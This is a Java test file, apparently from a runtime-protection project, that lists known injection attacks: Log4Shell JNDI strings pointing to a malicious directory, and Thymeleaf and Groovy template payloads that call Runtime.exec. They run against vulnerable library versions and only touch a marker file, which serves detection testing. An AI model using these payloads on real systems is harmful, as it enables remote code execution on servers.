package io.github.raspspring.carrier.jvm;

import java.util.List;

/**
 * Known attacks by texts that a logger, a template engine or a directory evaluates.
 */
final class LanguageAttack {

	private LanguageAttack() {
	}

	static List<KnownAttack> all(Damage damage) throws Exception {
		String exec = "exec('touch " + damage.marker() + "').waitFor()";
		EvilDirectory directory = new EvilDirectory(damage);
		KnownAttack object = new KnownAttack("Log4Shell with an object", "${jndi:" + directory.objectUrl() + "}",
				"hello", LanguageAttack::log);
		KnownAttack code = new KnownAttack("Log4Shell with code", "${jndi:" + directory.codeUrl() + "}", "hello",
				LanguageAttack::log);
		return List.of(object, code,
				new KnownAttack("Thymeleaf", "${@java.lang.Runtime@getRuntime()." + exec + "}", "hello",
						LanguageAttack::thymeleaf),
				new KnownAttack("Groovy template", "<% Runtime.getRuntime()." + exec + " %>", "Hello you",
						LanguageAttack::groovy));
	}

	/** Objects of this library can be made of what a directory answers. */
	private static void log(String input) throws Exception {
		System.setProperty("log4j2.StatusLogger.level", "OFF");
		Libraries.of("log4j-api-2.14.1", "log4j-core", "commons-collections")
			.type("org.apache.logging.log4j.LogManager")
			.call("getLogger", "shop")
			.call("error", input);
	}

	/** The name of a fragment comes from the client, as that of a view may. */
	static void thymeleaf(String input) throws Exception {
		Libraries library = Libraries.of("thymeleaf-3.0.11", "ognl", "javassist", "attoparser", "unbescape",
				"slf4j-api");
		Libraries.Thing engine = library.make("org.thymeleaf.TemplateEngine");
		engine.call("setTemplateResolver", library.load("org.thymeleaf.templateresolver.ITemplateResolver"),
				library.make("org.thymeleaf.templateresolver.StringTemplateResolver").target());
		Libraries.Thing context = library.make("org.thymeleaf.context.Context");
		context.call("setVariable", String.class, "page", Object.class, input);
		engine.call("process", String.class, "<p th:insert=\"~{__${page}__}\"></p>",
				library.load("org.thymeleaf.context.IContext"), context.target());
	}

	static void groovy(String input) throws Exception {
		String page = Libraries.of("groovy-all")
			.make("groovy.text.SimpleTemplateEngine")
			.call("createTemplate", input)
			.call("make")
			.target()
			.toString();
		if (page.isEmpty()) {
			throw new IllegalStateException("There is no page");
		}
	}

}
